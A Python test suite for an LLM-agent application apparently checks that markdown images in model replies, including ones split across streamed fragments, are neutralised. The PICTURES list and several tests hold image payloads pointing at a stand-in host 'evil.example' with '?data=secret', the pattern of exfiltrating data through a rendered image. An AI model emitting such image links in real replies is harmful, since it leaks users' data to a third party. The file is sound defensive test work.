"""What a model writes loads no picture, however its text is cut, and stays readable."""

import json
from collections.abc import Iterator

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.orchestration.images import without_images
from app.orchestration.questions import QuestionContent, QuestionSet
from tests.answers import calls, question
from tests.chat.conducting import stage
from tests.conftest import MakeSettings
from tests.model_server import ModelServer, Say

PICTURE = "![x](https://evil.example/?data=secret)"
PICTURES = (
    PICTURE,
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "![1]\n\n[1]: https://evil.example/p.png",
    "![][1]\n\n[1]: https://evil.example/p.png",
    "![[a](https://a.example)](https://evil.example/p.png)",
    "!![x](https://evil.example/p.png)",
    "[![x](https://evil.example/p.png)](https://a.example)",
    '![x](<https://evil.example/p.png> "t")',
    "![x](data:image/png;base64,AAAA)",
)
PARSER = MarkdownIt("commonmark", {"html": True})


def pictures(markdown: str) -> list[str]:
    """The addresses a renderer would load."""
    tokens = (token for block in PARSER.parse(markdown) for token in block.children or ())
    return [str(token.attrGet("src")) for token in tokens if token.type == "image"]


def said(pieces: list[str]) -> str:
    """The reply that these pieces make."""
    reply = ""
    for piece in pieces:
        reply += without_images(piece, after=reply)
    return reply


@pytest.mark.parametrize("text", PICTURES)
@pytest.mark.parametrize("size", [1, 2, 1000])
def test_no_picture_is_left_in_pieces_of_any_size(text: str, size: int) -> None:
    assert pictures(text)
    assert pictures(said([text[at : at + size] for at in range(0, len(text), size)])) == []


@given(pieces=st.lists(st.text(alphabet="![]()\\\\`<> \nax:/1&#33;", max_size=12), max_size=20))
@example(pieces=["!", "", "[x](https://evil.example)"])
@example(pieces=["\\\\!", "[x](https://evil.example)"])
def test_no_text_makes_a_picture(pieces: list[str]) -> None:
    reply = said(pieces)

    assert pictures(reply) == []
    assert "".join(reply.split()) == "".join("".join(pieces).split())


@pytest.mark.parametrize(
    ("text", "reads"),
    [
        ("Great![1]", "Great! [1]"),
        ("if (![1, 2].includes(n)) return;", "if (! [1, 2].includes(n)) return;"),
        ("Wow! A [link](https://a.example), a! b [c]", "Wow! A [link](https://a.example), a! b [c]"),
        ("a != b[0] and !c", "a != b[0] and !c"),
    ],
)
def test_ordinary_text_and_code_stay_readable(text: str, reads: str) -> None:
    assert without_images(text) == reads


def _texts(value: object) -> Iterator[str]:
    match value:
        case str():
            yield value
        case dict():
            yield from (text for each in value.values() for text in _texts(each))
        case list() | tuple():
            yield from (text for each in value for text in _texts(each))


def _all_texts(made: QuestionSet) -> list[str]:
    return [*made.recommendations, *_texts([each.model_dump(mode="json") for each in made.questions])]


async def test_a_technique_s_pictures_reach_neither_the_reply_nor_a_question(
    openai_settings: MakeSettings, model_server: ModelServer
) -> None:
    hostile = {
        name: [PICTURE, PICTURE] if isinstance(value, list) else f"{value} {PICTURE}"
        for name, value in question(1).items()
        if isinstance(value, str | list)
    }
    case = {"scenario": PICTURE, "data": [PICTURE], "expected_approach": [PICTURE]}
    output = {"summary": PICTURE, "questions": [question(1) | hostile | {"case": case}], "recommendations": [PICTURE]}
    text = json.dumps(output).replace("![", "!\\u005b")
    model_server.script(calls("technical-few_shot", count="1"), Say(text, pieces=50))
    async with stage(openai_settings()) as conducted:
        turn = await conducted.turn(agent="technical")

    assert turn.answer.reply == turn.text_seen
    assert "! [x](https://evil.example" in turn.answer.reply
    assert [text for text in (turn.answer.reply, *_all_texts(turn.questions)) if "![" in text] == []


async def test_an_agent_s_pictures_are_links_and_the_reply_is_what_was_streamed(
    openai_settings: MakeSettings, model_server: ModelServer
) -> None:
    model_server.script(Say(f"Look here. {PICTURE} " * 20, pieces=1000))
    async with stage(openai_settings()) as conducted:
        turn = await conducted.turn(agent="technical")

    assert turn.answer.reply == turn.text_seen
    assert pictures(turn.answer.reply) == []
    assert turn.answer.reply.count("! [x](https://evil.example/?data=secret)") == 20


def test_a_fragment_of_the_posting_brings_no_picture_either() -> None:
    content = QuestionContent(text="Why?", requirement=f"Python {PICTURE}", category=PICTURE)

    assert "![" not in f"{content.requirement}{content.category}"
